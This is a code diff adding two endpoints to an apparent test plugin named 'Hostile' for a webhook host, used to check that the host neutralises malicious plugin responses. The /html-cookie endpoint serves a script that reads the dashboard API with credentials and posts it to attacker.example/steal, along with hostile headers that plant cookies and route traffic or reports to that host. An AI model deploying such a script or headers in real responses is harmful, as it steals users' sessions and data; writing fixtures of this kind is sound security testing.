@@ -25,6 +25,18 @@
 //!   the `x-kind` header, passing it off as another plugin's when that kind is not
 //!   `hostile.*` (500: the host refuses kinds outside the manifest's `emits`, and
 //!   stores nothing).
+//! - `/html-cookie`: 200 `text/html` with a `<script>` that reads the dashboard's
+//!   API, and every header that would let it act in the host's origin or outlive
+//!   the response: `Set-Cookie: hookhost_session=planted`, `Clear-Site-Data`,
+//!   `Strict-Transport-Security`, `Alt-Svc`, `NEL` with `Report-To`, a
+//!   `WWW-Authenticate` prompt, its own loose `Content-Security-Policy`,
+//!   `X-Content-Type-Options: sniff`, and a `Content-Length: 1` that would cut the
+//!   body short; plus `x-plugin: kept`, which a host may pass on. The body is
+//!   `HTML_COOKIE_BODY`, whole.
+//! - `/echo-request`: 200 JSON `{"method", "path", "query", "headers": [[name,
+//!   value], ...]}`, exactly the request the plugin was handed, and one event
+//!   `hostile.echo` (id from `x-id`, default `echo`) with the same JSON, so that the
+//!   stored raw request can be looked at too.
 
 wit_bindgen::generate!({ world: "plugin", path: "../../../wit" });
 
@@ -37,6 +49,70 @@ use hookhost::plugin::types::{Event, HttpResponse};
 use hookhost::plugin::{config, log};
 
 struct Hostile;
+
+/// The body `/html-cookie` answers with: a page that would use the dashboard's
+/// session if it ran in the host's origin.
+const HTML_COOKIE_BODY: &str = "<!doctype html><title>hostile</title><script>\
+fetch('/api/events',{credentials:'include'}).then(r=>r.text()).then(t=>\
+fetch('http://attacker.example/steal',{method:'POST',body:t}))</script>";
+
+fn html_cookie() -> WebhookOutcome {
+    let headers = [
+        ("Content-Type", "text/html; charset=utf-8"),
+        ("Set-Cookie", "hookhost_session=planted; Path=/; HttpOnly"),
+        ("set-cookie", "tracker=1; Path=/; Domain=localhost"),
+        ("Clear-Site-Data", "\"cookies\", \"storage\""),
+        ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
+        ("Alt-Svc", "h2=\"attacker.example:443\"; ma=86400"),
+        ("NEL", "{\"report_to\":\"steal\",\"max_age\":86400,\"include_subdomains\":true}"),
+        ("Report-To", "{\"group\":\"steal\",\"max_age\":86400,\"endpoints\":[{\"url\":\"http://attacker.example/r\"}]}"),
+        ("WWW-Authenticate", "Basic realm=\"hookhost admin token\""),
+        ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
+        ("X-Content-Type-Options", "sniff"),
+        ("Content-Length", "1"),
+        ("x-plugin", "kept"),
+    ];
+    WebhookOutcome {
+        response: HttpResponse {
+            status: 200,
+            headers: headers
+                .iter()
+                .map(|(name, value)| (name.to_string(), value.to_string()))
+                .collect(),
+            body: HTML_COOKIE_BODY.as_bytes().to_vec(),
+        },
+        events: vec![],
+    }
+}
+
+fn echo_request(request: &WebhookRequest) -> WebhookOutcome {
+    let echo = serde_json::json!({
+        "method": request.method,
+        "path": request.path,
+        "query": request.query,
+        "headers": request.headers,
+    })
+    .to_string();
+    let id = request
+        .headers
+        .iter()
+        .find(|(name, _)| name == "x-id")
+        .map_or("echo".to_string(), |(_, value)| value.clone());
+    let event = Event {
+        id,
+        kind: "hostile.echo".into(),
+        subject: None,
+        payload: echo.clone(),
+    };
+    WebhookOutcome {
+        response: HttpResponse {
+            status: 200,
+            headers: vec![("content-type".into(), "application/json".into())],
+            body: echo.into_bytes(),
+        },
+        events: vec![event],
+    }
+}
 
 fn respond(body: Vec<u8>, events: Vec<Event>) -> WebhookOutcome {
     WebhookOutcome {
@@ -220,6 +296,8 @@ impl Guest for Hostile {
                 };
                 Ok(respond(b"emitted".to_vec(), vec![spoofed]))
             }
+            "/html-cookie" => Ok(html_cookie()),
+            "/echo-request" => Ok(echo_request(&request)),
             other => Err(PluginError::BadRequest(format!("unknown path {other}"))),
         }
     }
